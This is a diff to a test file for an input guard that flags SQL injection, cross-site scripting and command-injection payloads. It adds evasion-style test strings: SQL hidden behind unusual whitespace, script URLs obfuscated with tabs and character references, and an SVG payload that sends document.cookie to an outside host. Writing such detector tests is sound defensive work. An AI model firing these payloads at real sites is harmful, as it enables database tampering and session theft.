@@ -7,7 +7,7 @@ import pytest
 
 from guard.engine import Guard
 from guard.policy import load_text
-from guard.policy.payloads import code_exec, sqli, xss
+from guard.policy.payloads import MAX_SQL_STARTS, MAX_SQL_STATEMENT, code_exec, sqli, xss
 from guard.policy.rules import RuleError, apply_rules
 from guard.subject import HttpSubject
 from tests._backends import ScriptedBackend
@@ -21,6 +21,11 @@ SQL = [
     "x' ; UPDATE accounts SET balance = 1000000 WHERE id = 7; --",
     "DELETE FROM orders",
     "hello\nDROP TABLE IF EXISTS Album;",  # a second string value of the body
+    "shoes'; DROP\fTABLE orders; --",  # a form feed is whitespace to SQL, not a line break
+    "red shoes' UNION\x0bSELECT password\x0bFROM users --",  # so is a vertical tab
+    "x\u2028DROP TABLE users",  # and a Unicode line separator
+    "shoes'; DROP TABLE orders; I don't like these",  # prose after the statement's ';' (an open quote) hides nothing
+    "shoes'; DROP TABLE orders; --" + " I really like these shoes and would buy them again." * 40,  # a long line
 ]
 SCRIPT = [
     "<script>alert(1)</script>",
@@ -31,6 +36,13 @@ SCRIPT = [
     '<div style="x:expression(javascript:alert(1))">',
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K",
     "VBScript:msgbox(1)",
+    "<img\nsrc=x\nonerror=alert(document.cookie)>",  # attributes on lines of their own
+    "Nice!<svg\n\nonload=fetch('//x.io/'+document.cookie)>",
+    '<img alt=">" onerror=alert(1)>',  # a '>' inside a quoted value does not end the tag
+    '<a href="&#106;avascript:alert(1)">x</a>',  # a character reference in the URL
+    "[x](javascript&colon;alert(1))",
+    "<a href='java\tscript:alert(1)'>x</a>",  # browsers drop tabs and line breaks inside a scheme
+    "<a href='java\nscript:alert(1)'>x</a>",
 ]
 CODE = [
     "$(touch /tmp/blns.fail)",
@@ -78,6 +90,8 @@ BENIGN = [
     "Create a user-friendly interface for non-technical users.",
     "JavaScript: The Good Parts is a book; is data: a scheme?",
     "if 1 < 2 and 3 > 2 then <b>bold</b> is fine",
+    "&lt;img src=x onerror=alert(1)&gt; is how the page shows markup",  # escaped markup is text, not a tag
+    "Tom &amp; Jerry <3",
     "",
 ]
 
@@ -110,6 +124,23 @@ def test_ordinary_text_is_not_flagged(text: str) -> None:
 def test_a_statement_inside_a_longer_line_counts_and_prose_after_it_does_not_hide_it() -> None:
     assert sqli("search for: x'; DROP TABLE users; --")
     assert not sqli("search for: x'; DROP the users a line")
+
+
+def test_sqli_stops_parsing_at_its_bounds_and_a_text_past_them_counts_as_sql() -> None:
+    # a statement is parsed from its keyword for at most MAX_SQL_STATEMENT characters, whatever the line's length
+    padded = "x" * (2 * MAX_SQL_STATEMENT) + " '; DROP TABLE orders; --"
+    assert sqli(padded)
+    # more places where a statement could start than are checked: counted as SQL, not skipped
+    decoys = "drop it " * MAX_SQL_STARTS
+    assert not sqli(decoys[: len("drop it ") * (MAX_SQL_STARTS - 1)])
+    assert sqli(decoys + "drop it")
+
+
+def test_xss_reads_every_tag_in_one_scan() -> None:
+    # many unclosed tags and quotes: one scan finds every tag (a pattern that retried each "<" took 0.3 s on these)
+    for text in ("<a" * 4000, "<a\n" * 3000, '<a"' * 3000, "<a " + "style=" * 2000):
+        assert not xss(text)
+    assert xss("<a" * 4000 + " onload=x>")
 
 
 @pytest.mark.parametrize("function", [sqli, xss, code_exec])
